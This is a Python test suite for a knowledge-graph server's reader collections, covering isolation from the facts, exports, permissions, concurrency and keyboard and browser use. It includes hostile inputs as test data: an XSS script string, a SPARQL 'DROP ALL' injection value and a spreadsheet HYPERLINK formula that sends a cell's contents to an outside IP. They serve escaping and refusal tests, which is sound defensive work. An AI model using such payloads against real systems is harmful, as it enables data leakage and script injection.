"""Collections: apart from the facts, exported, shared by link, by keyboard, and safe from what is written in them."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from threading import Thread
from urllib.parse import urlencode

import pytest
from playwright.sync_api import Browser, expect
from rdflib import DCTERMS, RDF, Graph, Literal, URIRef

from kg.app.write import Committer
from kg.datasets import GraphNames
from kg.mapping.corpora.corpus_reader import read_corpus
from kg.namespaces import AS, OA
from kg.tokens import Role, Tokens
from kg.workers.served_store import UnlimitedStore
from kg.writer.local_writer import LocalWriter
from server import Settings, create_app
from tests.pages.conftest import HARBOUR, Reader, opened, running, stored
from tests.pages.test_browser import AXE, violations
from tests.support.http_client import Client, Reply

SCRIPT = '<script>alert("1")</script> & "quoted" \\u0022 \\ 🙂 \u202e\u05d0'
READERS = ("ada", "grace")
BY_PATTERN = f"DELETE WHERE {{{{ GRAPH ?g {{{{ ?s a <{AS.Collection}> ; ?p ?o }}}} }}}}"


@dataclass(frozen=True)
class Desk:
    """A server that takes notes: its base, what can be collected, and the tokens of two readers."""

    reader: Reader
    names: GraphNames
    statements: tuple[str, ...]
    passage: str
    tokens: dict[str, str]

    @property
    def client(self) -> Client:
        """Return a client of plain HTTP."""
        return Client(self.reader.host, self.reader.port)

    def send(self, *things: str, by: str = "ada", path: str = "/collections", **fields: str) -> Reply:
        """Send what is to be collected, with a reader's token."""
        body = urlencode([*(("iri", iri) for iri in things), *fields.items()])
        kind = {"Content-Type": "application/x-www-form-urlencoded", "Accept": "text/plain"}
        authorization = {"Authorization": f"Bearer {self.tokens[by]}"} if by else {}
        return self.client.send("POST", path, body, {**kind, **authorization})

    def begun(self, title: str, *things: str, **fields: str) -> str:
        """Begin a collection, and return its address."""
        reply = self.send(*(things or self.statements[:1]), name=title, **fields)
        assert reply.status == 201, reply.text
        return str(reply.headers["Location"])

    def graph(self, address: str) -> str:
        """Return the IRI of the collection at an address."""
        return self.names.collection(address.rpartition("/")[2])


@pytest.fixture(scope="module")
def desk(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Desk]:
    """Serve the worked example to two readers who have tokens, and to all others without."""
    corpus = read_corpus(HARBOUR / "corpus.yaml")
    folder = tmp_path_factory.mktemp("collections")
    store = stored(corpus, folder)
    tokens = Tokens.of_store(folder)
    roles = {**dict.fromkeys(READERS, Role.WRITE), "curator": Role.ADMIN}
    by_name = {name: tokens.add(name, role, "2026-01-01T00:00:00+00:00") for name, role in roles.items()}
    settings = Settings(corpus.names.base, corpus.title, None, corpus.licence, writable=False, tokens=tokens)
    writer = LocalWriter(Committer(store, corpus.names).commit)
    with running(create_app(UnlimitedStore(store), settings, writer)) as reader:
        listed = csv.DictReader(io.StringIO(reader.get("/statements", "text/csv").text))
        rows = [*{row["statement"]: row["passage"] for row in listed}.items()]
        yield Desk(reader, corpus.names, tuple(statement for statement, _ in rows), rows[2][1], by_name)


def quads(desk: Desk, *, but: str = "") -> set[str]:
    """Return the dataset's quads without provenance, and without one graph."""
    lines = desk.reader.get("/dump.nq", "*/*").text.splitlines()
    return {line for line in lines if f"<{desk.names.provenance}> ." not in line and not (but and f"<{but}> ." in line)}


def test_nothing_of_a_collection_enters_the_facts(desk: Desk) -> None:
    statement = desk.statements[0]
    thing = f"/about?iri={statement}"
    pages = (thing, "/statements", "/disagreements")
    facts = ("/data?default", f"{thing}&format=nt")
    counts = "/sparql?format=csv&query=SELECT+(COUNT(*)+AS+%3Fn)+%7B+%3Fs+%3Fp+%3Fo+%7D"
    before = quads(desk), [desk.reader.get(path, "application/n-triples").text for path in facts]
    words, number = [desk.reader.get(path).words for path in pages], desk.reader.get(counts, "*/*").text
    address = desk.begun("Facts apart", statement, note="disputed", disputed="yes")
    graph = desk.graph(address)
    assert quads(desk, but=graph) == before[0]
    assert len(quads(desk)) > len(before[0])
    assert [desk.reader.get(path, "application/n-triples").text for path in facts] == before[1]
    assert desk.reader.get(counts, "*/*").text == number
    assert re.sub(r"0000\d\d", "", " ".join(desk.reader.get(path).words for path in pages)) == re.sub(
        r"0000\d\d", "", " ".join(words)
    )


def test_a_graph_has_who_and_when_in_the_words_of_web_annotations(desk: Desk) -> None:
    address = desk.begun("Words of the field", *desk.statements[:2], note="Look again", disputed="yes")
    graph = Graph().parse(data=desk.reader.get(address, "text/turtle").text, format="turtle")
    collection = URIRef(desk.graph(address))
    assert (collection, RDF.type, AS.Collection) in graph
    (annotation,) = graph.objects(collection, AS["items"])
    assert {str(iri) for iri in graph.objects(annotation, OA.hasTarget)} == {*desk.statements[:2]}
    assert graph.value(annotation, OA.motivatedBy) == OA.assessing
    body = graph.value(annotation, OA.hasBody)
    assert (graph.value(body, RDF.type), graph.value(body, RDF.value)) == (OA.TextualBody, Literal("Look again"))
    creator = graph.value(annotation, DCTERMS.creator)
    assert [str(label) for label in graph.objects(creator, URIRef("http://www.w3.org/2000/01/rdf-schema#label"))] == [
        "ada"
    ]
    created = graph.value(annotation, DCTERMS.created)
    assert isinstance(created, Literal)
    assert datetime.now(UTC) - created.toPython() < timedelta(hours=1)


@pytest.mark.parametrize(
    "text", [SCRIPT, "1 = 1", "a\nb\n\n# c", "x" * 10_000], ids=["markup", "equation", "lines", "long"]
)
def test_what_a_reader_writes_is_kept_as_it_is_and_is_never_markup(desk: Desk, text: str) -> None:
    address = desk.begun(SCRIPT, note=text)
    page = desk.reader.get(address)
    assert page.status == 200
    assert page.tags == desk.reader.get(desk.begun("Plain", note="Plain")).tags
    assert page.inline == []
    assert " ".join(text.split()) in page.words
    (row,) = csv.DictReader(io.StringIO(desk.reader.get(address, "text/csv").text, newline=""))
    assert row["note"] == text
    assert not re.search(r"(?<!\\)<", desk.reader.get(address, "text/markdown").text.replace("<http", "http"))


@pytest.mark.parametrize(
    ("fields", "status", "sentence"),
    [
        ({"note": "x" * 10_001}, 400, "The note has 10,001 characters: expected 10,000 at most."),
        ({"name": "x" * 201}, 400, "The name has 201 characters: expected 200 at most."),
        ({"note": "bell\x07"}, 400, "The note has the control character U+0007"),
        ({"name": " "}, 400, "The form names no collection, and no new one either"),
        ({"collection": "there"}, 400, "The form names both a collection and a new one"),
        ({"name": "", "collection": 'x"> } <'}, 404, "There is no collection 'x\"> } <'"),
    ],
    ids=["note", "name", "control", "nameless", "both", "collection"],
)
def test_a_refusal_says_why_and_keeps_nothing(desk: Desk, fields: dict[str, str], status: int, sentence: str) -> None:
    before = desk.reader.get("/collections").words
    reply = desk.send(desk.statements[0], **{"name": "Refused", **fields})
    assert reply.status == status
    assert sentence in reply.text
    assert desk.reader.get("/collections").words == before


@pytest.mark.parametrize(
    "target", ["https://nowhere.example/x", "no iri", "urn:x> } DROP ALL", "{base}article/harbour-talks/"]
)
def test_only_statements_and_passages_that_there_are_can_be_collected(desk: Desk, target: str) -> None:
    iri = target.format(base=desk.names.base) if "{base}" in target else target
    reply = desk.send(desk.statements[0], iri, name="Refused")
    assert (reply.status, f"'{iri}' is neither a statement nor a passage" in reply.text) == (400, True)


def test_no_note_is_a_formula_in_a_spreadsheet(desk: Desk) -> None:
    address = desk.begun("Formulas", note='=HYPERLINK("http://198.51.100.7/"&A1)')
    (row,) = csv.DictReader(io.StringIO(desk.reader.get(address, "text/csv").text))
    assert row["note"] == '\'=HYPERLINK("http://198.51.100.7/"&A1)'
    assert '=HYPERLINK("http://198.51.100.7/"&A1)' in desk.reader.get(address).words


def test_writing_needs_a_token_of_the_role_and_the_page_says_so(desk: Desk) -> None:
    assert desk.send(desk.statements[0], by="", name="Refused").status == 401
    kind = {"Content-Type": "application/x-www-form-urlencoded", "Sec-Fetch-Site": "cross-site"}
    foreign = desk.client.send(
        "POST", "/collections", "name=x", {**kind, "Authorization": f"Bearer {desk.tokens['ada']}"}
    )
    assert foreign.status == 403
    assert "kg token add NAME --role write" in desk.reader.get(f"/collect?iri={desk.statements[0]}").words


def test_a_server_that_takes_no_writes_says_how_they_are_allowed(hostile_site: Reader) -> None:
    assert "This server takes no notes: it accepts no writes." in hostile_site.get("/collect").words


def test_two_readers_at_once_lose_nothing(desk: Desk) -> None:
    address = desk.begun("Together")
    identifier, notes = address.rpartition("/")[2], [f"{name} {number}" for name in READERS for number in range(3)]

    def add(name: str) -> None:
        for number in range(3):
            desk.send(desk.passage, by=name, collection=identifier, note=f"{name} {number}")

    threads = [Thread(target=add, args=(name,)) for name in READERS]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    rows = [*csv.DictReader(io.StringIO(desk.reader.get(address, "text/csv").text))]
    assert sorted((row["note"], row["by"]) for row in rows if row["note"]) == [
        (note, note.split()[0]) for note in sorted(notes)
    ]


def test_an_item_is_removed_with_its_note_and_the_others_stay(desk: Desk) -> None:
    address = desk.begun("Fewer", note="first")
    desk.send(desk.passage, collection=address.rpartition("/")[2], note="second")
    forms = [link for link in desk.reader.get(address).links if link.endswith("/remove")]
    assert len(forms) == 2
    assert desk.send(path=forms[0]).status == 201
    (row,) = csv.DictReader(io.StringIO(desk.reader.get(address, "text/csv").text))
    assert (row["thing"], row["note"]) == (desk.passage, "second")
    assert "first" not in desk.reader.get(address, "text/turtle").text
    again = desk.send(path=forms[0])
    assert (again.status, "has no item" in again.text) == (404, True)


def notes(desk: Desk, address: str) -> list[str]:
    """Return the notes of a collection, the oldest first."""
    return [row["note"] for row in csv.DictReader(io.StringIO(desk.reader.get(address, "text/csv").text))]


def test_an_item_is_removed_by_who_has_written_it_or_by_an_administrator(desk: Desk) -> None:
    address = desk.begun("Of two", note="by ada")
    desk.send(desk.passage, by="grace", collection=address.rpartition("/")[2], note="by grace")
    own, other = [link for link in desk.reader.get(address).links if link.endswith("/remove")]
    refused = desk.send(path=own, by="grace")
    written = "The item was written by ada, and the token is that of grace"
    expected = "expected the token of ada, or one with the role 'admin'. Nothing is removed."
    assert (refused.status, refused.text) == (403, f"{written}: {expected}\n")
    assert notes(desk, address) == ["by ada", "by grace"]
    assert desk.send(path=other, by="grace").status == 201
    assert notes(desk, address) == ["by ada"]
    assert desk.send(path=own, by="curator").status == 201
    assert notes(desk, address) == []


@pytest.mark.parametrize(
    ("method", "path", "kind", "body"),
    [
        ("PUT", "/data?graph={}", "text/turtle", "<urn:x> <urn:y> 'z' ."),
        ("POST", "/data?graph={}", "text/turtle", "<urn:x> <urn:y> 'z' ."),
        ("DELETE", "/data?graph={}", "text/plain", ""),
        ("POST", "/update", "application/sparql-update", "DROP GRAPH <{}>"),
        ("POST", "/update", "application/sparql-update", BY_PATTERN),
    ],
    ids=["replace", "add", "drop", "update", "pattern"],
)
def test_no_other_write_changes_what_readers_have_collected_but_an_administrators(
    desk: Desk, method: str, path: str, kind: str, body: str
) -> None:
    address = desk.begun("Kept", note="stays")
    graph = desk.graph(address)
    path, body = path.format(graph), body.format(graph)

    def send(by: str) -> Reply:
        headers = {"Content-Type": kind, "Accept": "text/plain", "Authorization": f"Bearer {desk.tokens[by]}"}
        return desk.client.send(method, path, body, headers)

    refused = send("ada")
    assert (refused.status, "is a collection: its readers write it at /collections" in refused.text) == (403, True)
    assert notes(desk, address) == ["stays"]
    assert send("curator").status in (200, 201, 204)


def test_what_is_collected_and_then_gone_is_said_to_be_gone(desk: Desk) -> None:
    graph = desk.names.collection("of-a-client")
    target, item = "https://nowhere.example/gone", f"{graph}#"
    triples = (
        f"<{graph}> a <{AS.Collection}> ; <{DCTERMS.title}> 'By hand' ; <{DCTERMS.created}> 'soon' ."
        f"<{graph}> <{AS['items']}> <{item}> ."
        f"<{item}> <{OA.motivatedBy}> <{OA.commenting}> ; <{OA.hasTarget}> <{target}> ; <{DCTERMS.created}> 'now' ."
    )
    authorization = {"Content-Type": "text/turtle", "Authorization": f"Bearer {desk.tokens['curator']}"}
    assert desk.client.send("PUT", f"/data?graph={graph}", triples, authorization).status == 201
    assert f"No longer in the data: {target}" in desk.reader.get("/collections/of-a-client").words
    assert f"No longer in the data: <{target}>" in desk.reader.get("/collections/of-a-client", "text/markdown").text
    assert desk.reader.get("/collections/nothing").status == 404


def test_a_note_makes_no_page_of_an_older_version_speak_of_a_newer_one(desk: Desk) -> None:
    version = versions(desk)[-1]
    paths = (f"/about?iri={desk.statements[0]}", f"/cite?iri={desk.statements[0]}", "/statements", "/disagreements")
    pinned = [f"{path}{'&' if '?' in path else '?'}version={version}" for path in paths]
    desk.begun("Later", desk.statements[0], note="later")
    assert versions(desk)[-1] > version
    for path in (*pinned, *paths):
        page = desk.reader.get(path)
        assert page.status == 200
        for words in ("the current one", "is being indexed", "The URL requests version"):
            assert words not in page.words, path
    # Facts make it speak again.
    fact = b"<https://example.org/a> <https://example.org/b> <https://example.org/c> ."
    header = {"Content-Type": "text/turtle", "Authorization": f"Bearer {desk.tokens['curator']}"}
    assert desk.client.send("PUT", "/data?graph=https://example.org/later", fact, header).status == 201
    notice = desk.reader.get(pinned[0]).words
    assert f"This is version {version} of the data, as requested by the URL." in notice
    assert "the current one, has the same facts about it" in notice
    assert f"The URL requests version {version} of the data" in desk.reader.get(pinned[2]).words


def versions(desk: Desk) -> list[str]:
    """Return the versions that the server keeps, the oldest first."""
    return sorted(re.findall(r"\b\d{6}\b", desk.reader.get("/dataset").words.partition("Versions")[2]))


@pytest.mark.skipif(not (Path(__file__).parents[2] / "server/static/bundles/collect.js").is_file(), reason="no scripts")
@pytest.mark.xdist_group("browser")
def test_without_its_script_the_form_says_that_no_token_can_be_sent(browser: Browser, desk: Desk) -> None:
    with opened(browser, desk.reader, 360, 740) as tab:
        tab.goto(f"/collect?iri={desk.passage}")
        notice = tab.get_by_text("without it the token cannot be sent")
        expect(notice).to_be_hidden()
        tab.route("**/bundles/*", lambda route: route.abort())
        tab.goto(f"/collect?iri={desk.passage}")
        expect(notice).to_be_visible()


@pytest.mark.skipif(not (Path(__file__).parents[2] / "server/static/bundles/collect.js").is_file(), reason="no scripts")
@pytest.mark.xdist_group("browser")
def test_a_reader_collects_by_keyboard_and_another_opens_the_link(browser: Browser, desk: Desk) -> None:
    with opened(browser, desk.reader, 1200, 900) as tab:
        tab.goto("/statements")
        boxes = tab.get_by_role("checkbox", name=re.compile("^Collect: "))
        chosen = [boxes.nth(number).get_attribute("value") for number in (0, 1)]
        for number in (0, 1):
            boxes.nth(number).press("Space")
        tab.get_by_role("button", name="Collect the marked ones").press("Enter")
        tab.get_by_label("Name of the new one").fill("The harbour")
        tab.get_by_label("Note").fill("Compare these")
        tab.get_by_label("Token").fill("kg_wrong")
        tab.get_by_role("button", name="Collect", exact=True).press("Enter")
        expect(tab.get_by_role("alert")).to_contain_text("has no known token")
        expect(tab.get_by_label("Note")).to_have_value("Compare these")
        tab.get_by_label("Token").fill(desk.tokens["ada"])
        tab.get_by_role("button", name="Collect", exact=True).press("Enter")
        expect(tab.get_by_role("heading", name="The harbour")).to_be_visible()
        address = tab.url
        tab.goto(f"/about?iri={desk.passage}")
        tab.get_by_role("link", name="Collect", exact=True).click()
        expect(tab.get_by_label("Token")).to_have_value(desk.tokens["ada"])
        tab.get_by_label("Collection", exact=True).select_option(label="The harbour")
        tab.get_by_label("Note").fill("Is this so?")
        tab.get_by_label(re.compile("This reading is disputed")).check()
        tab.get_by_role("button", name="Collect", exact=True).press("Enter")
        expect(tab.locator(".collected")).to_have_count(2)
    path = address.removeprefix(desk.reader.address)
    rows = [*csv.DictReader(io.StringIO(desk.reader.get(path, "text/csv").text))]
    assert [(row["thing"], row["note"], row["disputed"], row["by"]) for row in rows] == [
        *((iri, "Compare these", "false", "ada") for iri in sorted(filter(None, chosen))),
        (desk.passage, "Is this so?", "true", "ada"),
    ]
    markdown = desk.reader.get(path, "text/markdown").text
    graph = Graph().parse(data=desk.reader.get(path, "text/turtle").text, format="turtle")
    assert {str(iri) for iri in graph.objects(None, OA.hasTarget)} == {row["thing"] for row in rows}
    assert markdown.startswith("# The harbour\n")
    assert all(f"<{row['permalink']}>" in markdown for row in rows)
    assert "> This reading is disputed. Is this so?" in markdown
    with opened(browser, desk.reader, 360, 740) as other:
        for page in (path, "/disputed", "/collections", f"/collect?iri={desk.passage}"):
            other.goto(page)
            assert other.evaluate("document.documentElement.scrollWidth") <= 360, page
            assert violations(other) == [] if AXE.is_file() else True
        other.goto(path)
        expect(other.locator(".reader-note")).to_have_text(["Compare these", "Is this so?"])
        other.emulate_media(media="print")
        expect(other.locator(".reader-note").first).to_be_visible()
        expect(other.locator(".change").first).to_be_hidden()
        other.emulate_media(media="screen")
        other.goto("/disputed")
        expect(other.locator(".collected").filter(has_text="Is this so?")).to_contain_text(
            "In the collection The harbour"
        )
        expect(other.locator(".collected").filter(has_text="Compare these")).to_have_count(0)


def test_the_csv_of_a_collection_has_the_columns_of_statements(desk: Desk) -> None:
    statement = desk.statements[0]
    (row,) = csv.DictReader(io.StringIO(desk.reader.get(desk.begun("Columns"), "text/csv").text))
    rows = csv.DictReader(io.StringIO(desk.reader.get("/statements", "text/csv").text))
    of_list = next(of_statement for of_statement in rows if of_statement["statement"] == statement)
    assert row["thing"] == statement
    assert (row["source"], row["act"]) == (of_list["sourceName"], of_list["actLabel"])
    labels = ("polarity", "certainty", "behalf", "outer", "occasion")
    assert [row[column] for column in labels] == [of_list[f"{column}Label"] for column in labels]
    assert row["side"] == of_list["side"]
    assert row["source"]
    assert row["act"]
    assert row["certainty"]
